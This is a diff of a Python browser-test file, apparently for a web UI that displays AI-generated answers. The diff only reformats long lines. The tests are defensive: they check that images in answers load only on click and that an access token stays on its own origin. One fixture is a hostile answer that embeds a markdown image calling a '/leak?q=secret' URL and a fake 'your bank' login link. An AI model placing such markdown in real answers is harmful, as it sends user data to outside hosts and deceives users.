@@ -60,7 +60,9 @@ def assert_still_no_request(service: OtherService) -> None:
     assert service.requests == []
 
 
-def test_an_image_in_an_answer_is_fetched_only_when_clicked(ui: Page, api: httpx2.Client, fake_upstream, other_service) -> None:
+def test_an_image_in_an_answer_is_fetched_only_when_clicked(
+    ui: Page, api: httpx2.Client, fake_upstream, other_service
+) -> None:
     host = other_service.host
     hostile_answer(ui, api, fake_upstream,
                    f"Summary.\n\n![x](http://{host}/leak?q=secret)\n\n[your bank](http://{host}/login) and "
@@ -89,7 +91,9 @@ def test_an_image_in_an_answer_is_fetched_only_when_clicked(ui: Page, api: httpx
     assert [request.target for request in other_service.requests] == ["/leak?q=secret"]
 
 
-def test_always_load_from_a_host_until_removed_in_settings(ui: Page, api: httpx2.Client, fake_upstream, other_service) -> None:
+def test_always_load_from_a_host_until_removed_in_settings(
+    ui: Page, api: httpx2.Client, fake_upstream, other_service
+) -> None:
     host = other_service.host
     hostile_answer(ui, api, fake_upstream, f"![chart](http://{host}/chart.png)\n\n![other](http://{host}/other.png)\n")
     answer = last_answer(ui)
@@ -138,7 +142,10 @@ def served_with_token(drupe_home: Path, tmp_path: Path) -> Iterator[tuple[str, s
         deadline = time.monotonic() + WAIT_MS / 1000
         while True:
             try:
-                if httpx2.get(f"{url}/api/meta", headers={"authorization": f"Bearer {token}"}, timeout=2).status_code == 200:
+                if (
+                    httpx2.get(f"{url}/api/meta", headers={"authorization": f"Bearer {token}"}, timeout=2).status_code
+                    == 200
+                ):
                     break
             except httpx2.HTTPError:
                 pass
@@ -182,7 +189,9 @@ def test_the_access_token_never_reaches_another_port(browser, served_with_token,
         dialog = fresh.get_by_role("dialog", name="Access token")
         dialog.get_by_role("textbox").fill(token)
         dialog.get_by_role("button", name="Continue").click()
-        expect(fresh.get_by_role("complementary", name="Providers").get_by_role("link", name="Mine", exact=True)).to_be_visible()
+        expect(
+            fresh.get_by_role("complementary", name="Providers").get_by_role("link", name="Mine", exact=True)
+        ).to_be_visible()
         assert context.cookies() == []
     finally:
         context.close()
